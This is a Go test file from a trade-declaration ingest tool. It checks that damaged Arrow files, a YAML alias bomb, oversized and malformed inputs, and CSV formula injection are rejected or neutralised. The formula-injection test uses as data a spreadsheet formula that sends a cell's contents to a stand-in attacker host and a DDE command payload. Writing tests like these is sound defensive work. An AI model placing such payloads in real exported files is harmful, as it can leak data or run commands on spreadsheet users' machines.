package main

// The hostile-input half of issue 12's reliability suite: each test is a
// probe of the issue (docs/input-safety.md), failing on the code before the
// fix. Arrow IPC fuzzing, tree limits and the job file's alias bomb have
// their package tests too (ingest FuzzArrowIPC and TestDamagedArrow,
// models/xgb TestTreeLimits, pipeline/run TestJobAliasBomb).

import (
	"bytes"
	"encoding/csv"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/apache/arrow-go/v18/arrow"
	"github.com/apache/arrow-go/v18/arrow/array"
	"github.com/apache/arrow-go/v18/arrow/ipc"
	"github.com/apache/arrow-go/v18/arrow/memory"

	"risklane/ingest"
	"risklane/ingest/profile"
	"risklane/pipeline/rank"
	"risklane/pipeline/run"
)

// TestReliabilityDamagedArrow: byte-mutated copies of a valid .arrow file
// give a clean error from `ingest`, never a panic (35 of 60 panicked).
func TestReliabilityDamagedArrow(t *testing.T) {
	dir := t.TempDir()
	schema := arrow.NewSchema([]arrow.Field{
		{Name: "declaration_id", Type: arrow.BinaryTypes.String}, {Name: "date", Type: arrow.FixedWidthTypes.Date32},
		{Name: "hs_code", Type: arrow.BinaryTypes.String}, {Name: "quantity", Type: arrow.PrimitiveTypes.Float64},
		{Name: "fob_value", Type: arrow.PrimitiveTypes.Float64},
	}, nil)
	b := array.NewRecordBuilder(memory.DefaultAllocator, schema)
	for i := range 50 {
		b.Field(0).(*array.StringBuilder).Append("D" + strings.Repeat("x", i%7))
		b.Field(1).(*array.Date32Builder).Append(arrow.Date32(18000 + i))
		b.Field(2).(*array.StringBuilder).Append("870323")
		b.Field(3).(*array.Float64Builder).Append(float64(i + 1))
		b.Field(4).(*array.Float64Builder).Append(float64(10 * (i + 1)))
	}
	rec := b.NewRecordBatch()
	var buf bytes.Buffer
	w, err := ipc.NewFileWriter(&buf, ipc.WithSchema(schema))
	if err != nil {
		t.Fatal(err)
	}
	w.Write(rec)
	w.Write(rec)
	w.Close()
	good := buf.Bytes()
	rng := rand.New(rand.NewPCG(35, 60))
	for i := range 60 {
		data := bytes.Clone(good)
		for range 1 + rng.IntN(3) {
			data[rng.IntN(len(data))] = byte(rng.IntN(256))
		}
		path := filepath.Join(dir, "m.arrow")
		os.WriteFile(path, data, 0o644)
		func() {
			defer func() {
				if p := recover(); p != nil {
					t.Errorf("copy %d: panic %v", i, p)
				}
			}()
			if out, err := runIngestCLI("ingest", "--in", path, "--profile", "canonical", "--max-reject-rate", "1"); err != nil && !strings.Contains(err.Error(), path) {
				t.Errorf("copy %d: error does not name the file: %v\n%s", i, err, out)
			}
		}()
	}
}

// TestReliabilityJobAliases: a job file of nested aliases is refused at
// before any alias is expanded (12 levels grew to 10 GB in 40 s; 4 levels
// keep the test safe to run on a decoder that expands them).
func TestReliabilityJobAliases(t *testing.T) {
	var j strings.Builder
	j.WriteString("a: &a [x, x, x, x, x, x, x, x, x]\n")
	prev := "a"
	for i := range 4 {
		name := string(rune('b' + i))
		j.WriteString(name + ": &" + name + " [" + strings.TrimSuffix(strings.Repeat("*"+prev+",", 9), ",") + "]\n")
		prev = name
	}
	path := filepath.Join(t.TempDir(), "bomb.yaml")
	os.WriteFile(path, []byte(j.String()+"input: x\nprofile: date\nmodel: m\noutputs: o\n"), 0o644)
	if _, err := run.LoadJob(path); err == nil || !strings.Contains(err.Error(), "anchors, aliases and tags are not allowed") {
		t.Fatalf("err %v", err)
	}
}

// TestReliabilityFormulaInjection: ids a spreadsheet would evaluate are
// neutralised in every CSV (ingest output, rejects, ranked list), and kept
// as they are in Parquet.
func TestReliabilityFormulaInjection(t *testing.T) {
	dir := t.TempDir()
	evil := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+cmd|' /C calc'!A0`, "@SUM(1)", "-1+2"}
	var in strings.Builder
	in.WriteString("declaration_id,date,hs_code,quantity,fob_value\n")
	for _, id := range evil {
		in.WriteString(csvLine(id, "2020-01-02", "870323", "1", "10"))
		in.WriteString(csvLine(id, "not-a-date", "870323", "1", "10"))
	}
	src := filepath.Join(dir, "in.csv")
	os.WriteFile(src, []byte(in.String()), 0o644)
	outCSV, rej, pq := filepath.Join(dir, "out.csv"), filepath.Join(dir, "rej.csv"), filepath.Join(dir, "out.parquet")
	if out, err := runIngestCLI("ingest", "--in", src, "--profile", "canonical", "--max-reject-rate", "1", "--out", outCSV, "--rejects", rej); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if out, err := runIngestCLI("ingest", "--in", src, "--profile", "canonical", "--max-reject-rate", "1", "--out", pq); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	rf, err := rank.Create(filepath.Join(dir, "ranked.csv"))
	if err != nil {
		t.Fatal(err)
	}
	for i, id := range evil {
		rf.Write([]rank.Row{{Rank: int64(i + 1), DeclarationID: id, Lane: "red", Reasons: "=1+1"}})
	}
	if _, err := rf.Commit(); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		path string
		col  int
	}{{outCSV, 0}, {rej, 3}, {filepath.Join(dir, "ranked.csv"), 1}} {
		recs := readAllCSV(t, c.path)
		if len(recs) < len(evil)+1 {
			t.Fatalf("%s: %d records", c.path, len(recs))
		}
		for _, r := range recs[1:] {
			if v := r[c.col]; v == "" || strings.ContainsAny(v[:1], "=+-@\t\r") {
				t.Errorf("%s: cell %q is not neutralised", filepath.Base(c.path), v)
			}
		}
	}
	// Parquet keeps the true value: read back through the canonical profile.
	p, _ := profile.Resolve("canonical")
	batches, _, err := ingest.ReadAll([]string{pq}, p, ingest.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		for _, b := range batches {
			b.Release()
		}
	}()
	ids := batches[0].Column(0).(*array.String)
	for i, id := range evil {
		if ids.Value(i) != id {
			t.Errorf("Parquet id %d = %q, want %q", i, ids.Value(i), id)
		}
	}
}

// TestReliabilityBounds: rejects are capped, a very wide file, an endless
// input, a UTF-16 file and NUL bytes in ids get clear errors or rejects.
func TestReliabilityBounds(t *testing.T) {
	dir := t.TempDir()
	// More bad lines than a rejects file keeps: the first ones, then a count.
	var in bytes.Buffer
	in.WriteString("declaration_id,date,hs_code,quantity,fob_value\n")
	line := []byte("x\n")
	for range 100_050 {
		in.Write(line)
	}
	src := filepath.Join(dir, "bad.csv")
	os.WriteFile(src, in.Bytes(), 0o644)
	rej := filepath.Join(dir, "rej.csv")
	runIngestCLI("ingest", "--in", src, "--profile", "canonical", "--max-reject-rate", "1", "--rejects", rej)
	recs := readAllCSV(t, rej)
	if len(recs) != 1+100_000+1 || !strings.Contains(recs[len(recs)-1][4], "50 more rejected rows not written") {
		t.Errorf("rejects file: %d records, last %q", len(recs), recs[len(recs)-1])
	}

	wide := filepath.Join(dir, "wide.csv")
	os.WriteFile(wide, []byte("declaration_id,date,hs_code,quantity,fob_value"+strings.Repeat(",", 140_000)+"\n"), 0o644)
	nul := filepath.Join(dir, "nul.csv")
	os.WriteFile(nul, []byte("declaration_id,date,hs_code,quantity,fob_value\nA\x00B,2020-01-02,870323,1,1\nC,2020-01-02,870323,1,1\n"), 0o644)
	u16 := filepath.Join(dir, "u16.csv")
	os.WriteFile(u16, []byte("\xff\xfed\x00,\x00"), 0o644)
	for _, c := range []struct{ path, want string }{
		{wide, "more than the 2048 risklane reads"},
		{"/dev/zero", "NUL bytes"},
		{u16, "UTF-16"},
	} {
		if _, err := os.Stat(c.path); err != nil {
			continue
		}
		out, err := runIngestCLI("ingest", "--in", c.path, "--profile", "canonical")
		if err == nil || !strings.Contains(err.Error(), c.want) || strings.Count(out+err.Error(), c.want) > 1 {
			t.Errorf("%s: err %v, want %q once\n%s", c.path, err, c.want, out)
		}
	}
	rej2 := filepath.Join(dir, "rej2.csv")
	if out, err := runIngestCLI("ingest", "--in", nul, "--profile", "canonical", "--max-reject-rate", "1", "--rejects", rej2); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if r := readAllCSV(t, rej2); len(r) != 2 || r[1][1] != "2" || !strings.Contains(r[1][4], "NUL byte") {
		t.Errorf("NUL id: rejects %q", r)
	}
}

func csvLine(fields ...string) string {
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	w.Write(fields)
	w.Flush()
	return b.String()
}

func readAllCSV(t *testing.T, path string) [][]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	r := csv.NewReader(f)
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	return recs
}

// TestReliabilitySmaller: the "Smaller" list. Each bad value is
// rejected with a reason that says what is wrong; the duplicate header
// error is printed once.
func TestReliabilitySmaller(t *testing.T) {
	dir := t.TempDir()
	head := "declaration_id,date,hs_code,net_mass_kg,fob_value,tax_rate\n"
	rows := []struct{ row, column, reason string }{
		{"A,9999-12-31,870323,1,1,5", "date", "outside the years 1900 to 2199"},
		{"B,2020-01-02,870323,1,1,1e308", "tax_rate", "tax rate above 1000%"},
		{"C,2020-01-02,870323,1e-320,1,5", "net_mass_kg", "below 1e-6"},
		{"D,2020-01-02,870323.0,1,1,5", "hs_code", `ends in ".0"`},
		{"E,2020-01-02,870323,1,1e300,5", "fob_value", "larger than 1e15"},
	}
	var in strings.Builder
	in.WriteString(head)
	for _, r := range rows {
		in.WriteString(r.row + "\n")
	}
	src := filepath.Join(dir, "small.csv")
	os.WriteFile(src, []byte(in.String()+"F,2020-01-02,870323,1,1,5\n"), 0o644)
	rej := filepath.Join(dir, "rej.csv")
	if out, err := runIngestCLI("ingest", "--in", src, "--profile", "canonical", "--max-reject-rate", "1", "--rejects", rej); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	got := readAllCSV(t, rej)
	if len(got) != 1+len(rows) {
		t.Fatalf("rejects %q", got)
	}
	for i, r := range rows {
		g := got[i+1]
		if g[0] != src || g[1] != strconv.Itoa(i+2) || g[2] != r.column || !strings.Contains(g[4], r.reason) {
			t.Errorf("row %q: reject %q, want column %s and %q", r.row, g, r.column, r.reason)
		}
	}
	dup := filepath.Join(dir, "dup.csv")
	os.WriteFile(dup, []byte("declaration_id,date,date,hs_code,quantity,fob_value\nA,2020-01-01,2020-01-01,870323,1,1\n"), 0o644)
	_, err := runIngestCLI("ingest", "--in", dup, "--profile", "canonical")
	if err == nil || strings.Count(err.Error(), `column "date" appears more than once`) != 1 || strings.Contains(err.Error(), "no date column") {
		t.Errorf("duplicate header: %v", err)
	}
}
